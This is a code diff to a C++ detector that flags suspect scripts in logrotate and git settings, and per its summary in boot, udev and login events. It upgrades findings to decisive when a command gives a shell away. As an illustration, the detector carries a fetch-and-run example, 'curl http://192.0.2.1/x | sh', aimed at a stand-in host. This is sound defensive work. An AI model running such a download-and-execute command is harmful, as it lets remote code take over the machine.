@@ -53,7 +53,7 @@ void read_rotation(std::string_view text, EvidenceSink& out) {
       const auto bad = std::find_if(facts.flows.begin(), facts.flows.end(), is_bad);
       if (bad == facts.flows.end()) continue;
       Evidence evidence = evidence_of(k_rows[1], "logrotate runs: " + script.substr(0, k_most_shown));
-      evidence.cls = EvidenceClass::strong;
+      evidence.cls = gives_shell_away(facts) ? EvidenceClass::decisive : EvidenceClass::strong;
       evidence.line = first + bad->line;
       out.add(std::move(evidence));
     } else if (inside) {
@@ -65,17 +65,18 @@ void read_rotation(std::string_view text, EvidenceSink& out) {
 // git runs some of its settings: at every status, checkout or prompt that asks it.
 void read_git(std::string_view text, EvidenceSink& out) {
   for (const GitCommand& setting : commands_of_git(text)) {
-    bool bad = false;
+    bool bad = false, shell = false;
     if (setting.folder) {
       bad = is_temporary(setting.command);
     } else {
       const ShellFacts facts = facts_of_text(setting.command);
       bad = std::any_of(facts.flows.begin(), facts.flows.end(), is_bad);
+      shell = gives_shell_away(facts);
     }
     if (!bad) continue;
     Evidence evidence =
         evidence_of(k_rows[1], "git runs for " + setting.key + ": " + setting.command.substr(0, k_most_shown));
-    evidence.cls = EvidenceClass::strong;
+    evidence.cls = shell ? EvidenceClass::decisive : EvidenceClass::strong;
     evidence.line = setting.line;
     out.add(std::move(evidence));
   }
@@ -124,7 +125,7 @@ class EventScripts final : public Detector {
 
 const util::Registered<EventScripts> registered{{
     .id = "event-scripts",
-    .version = 3,
+    .version = 4,
     .summary = "suspect scripts at boot, and on events of udev, networks, logins, at and git",
     .example = "a device runs: /bin/sh -c 'curl http://192.0.2.1/x | sh'",
     .rules = k_rows,
